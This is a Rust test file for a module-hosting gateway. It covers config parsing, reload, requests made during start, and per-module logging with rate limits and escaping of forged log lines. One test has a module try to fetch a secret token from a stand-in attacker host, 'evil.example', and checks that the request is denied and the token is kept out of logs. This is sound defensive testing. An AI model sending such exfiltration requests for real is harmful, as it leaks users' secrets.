//! Configuration of a module, its log with levels, and requests of its `start`.

use serde_json::json;

use super::{calling, grantee};
use crate::support::service::Service;
use crate::support::{Client, Serving, token};

const GRANTS: &str = "[http]\nhosts = []\n[keyvalue]\nbuckets = []\n";

#[tokio::test(flavor = "multi_thread")]
async fn values_are_texts_numbers_and_booleans_and_nobody_else_s() {
    let config = "[config]\ntext = \"a\\nb\"\nempty = \"\"\nnumber = -7\nhex = 0x10\nfraction = 1.50\nyes = true\n\"a key\" = \"x\"\n";
    let gateway = grantee(&format!("{GRANTS}{config}"))
        .module("other", "grantee")
        .sidecar("other", GRANTS)
        .start()
        .await;
    let mut client = gateway.client("/grantee").await;
    let all = client.ask(json!({"do": "config-all"})).await;
    let expected = json!([
        ["a key", "x"],
        ["empty", ""],
        ["fraction", "1.50"],
        ["hex", "16"],
        ["number", "-7"],
        ["text", "a\nb"],
        ["yes", "true"],
    ]);
    assert_eq!(all, expected);
    let value = client.ask(json!({"do": "config", "key": "gone"})).await;
    assert!(value["value"].is_null(), "{value}");
    let mut other = gateway.client("/other").await;
    assert_eq!(other.ask(json!({"do": "config-all"})).await, json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_value_starts_the_module_anew_without_closing_anybody() {
    let gateway = grantee(&format!("{GRANTS}[config]\nseen = \"old\"\n")).start().await;
    let mut client = gateway.client("/grantee").await;
    let ask = json!({"do": "config", "key": "seen"});
    assert_eq!(client.ask(ask.clone()).await, json!({"value": "old", "seen": "old"}));
    let sidecar = gateway.directory().join("modules/grantee.toml");
    let keeper = gateway.gateway().keeper();
    std::fs::write(&sidecar, format!("{GRANTS}[config]\nseen = \"new\"\n")).unwrap();
    keeper.reload().await.unwrap();
    assert_eq!(client.ask(ask.clone()).await, json!({"value": "new", "seen": "new"}));
    // What `start` refuses does not come into force.
    std::fs::write(&sidecar, format!("{GRANTS}[config]\nseen = \"never\"\n")).unwrap();
    keeper.reload().await.unwrap();
    let list = keeper.list().await.unwrap();
    assert!(format!("{:?}", list[0].state).contains("must not be never"), "{list:?}");
    assert_eq!(client.ask(ask).await, json!({"value": "new", "seen": "new"}));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_start_may_make_requests() {
    let service = Service::start().await;
    let url = service.url("/hello");
    let sidecar = calling(service.address, "")
        + &format!("[keyvalue]\nbuckets = []\n[config]\nfetch_in_start = {url:?}\n");
    let gateway = grantee(&sidecar).start().await;
    assert!(gateway.gateway().refused().is_empty(), "{:?}", gateway.gateway().refused());
    assert_eq!(service.asked("/hello"), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn lines_with_a_level_go_to_the_log_under_the_module_s_name_and_limit() {
    let sidecar = format!("{GRANTS}[limits]\nlog_rate = 6\n");
    let setup = grantee(&sidecar).table("[log]\nformat = \"json\"\nlevel = \"trace\"");
    let serving = Serving::start(setup, &[]).await;
    let url = format!("{}/grantee", serving.url());
    let mut client = Client::connect(&url, Some(&token("alice", &[]))).await.unwrap();
    client.greeting().await;
    let log = |level: &str, message: &str| json!({"do": "log", "level": level, "context": "till", "message": message});
    for level in ["trace", "debug", "info", "warn", "error", "critical"] {
        client.ask(log(level, &format!("said as {level}\nforged"))).await;
    }
    client.ask(log("error", "one too many")).await;
    let (_, text) = serving.stop().await;
    for (level, shown) in [
        ("trace", "TRACE"),
        ("debug", "DEBUG"),
        ("info", "INFO"),
        ("warn", "WARN"),
        ("error", "ERROR"),
        ("critical", "ERROR"),
    ] {
        let line = text.lines().find(|line| line.contains(&format!("said as {level}\\")));
        let line = line.unwrap_or_else(|| panic!("{level}: {text}"));
        for part in [
            format!("\"level\":\"{shown}\""),
            "\"context\":\"till\"".into(),
            "\"module\":\"grantee\"".into(),
        ] {
            assert!(line.contains(&part), "{part}: {line}");
        }
    }
    assert!(!text.contains("one too many"), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_host_is_logged_with_the_module_s_name_and_not_again_and_again() {
    let serving = Serving::start(grantee(GRANTS), &[]).await;
    let url = format!("{}/grantee", serving.url());
    let mut client = Client::connect(&url, Some(&token("alice", &[]))).await.unwrap();
    client.greeting().await;
    for _ in 0..50 {
        let ask = json!({"do": "fetch", "url": "http://evil.example/secret?token=t0ken"});
        assert_eq!(client.ask(ask).await["error"], "HttpRequestDenied");
    }
    let (_, text) = serving.stop().await;
    let lines: Vec<_> = text.lines().filter(|line| line.contains("evil.example")).collect();
    assert!((1..25).contains(&lines.len()), "{lines:?}");
    assert!(lines[0].contains("grantee") && lines[0].contains("host-refused"), "{lines:?}");
    assert!(!text.contains("t0ken"), "{text}");
}
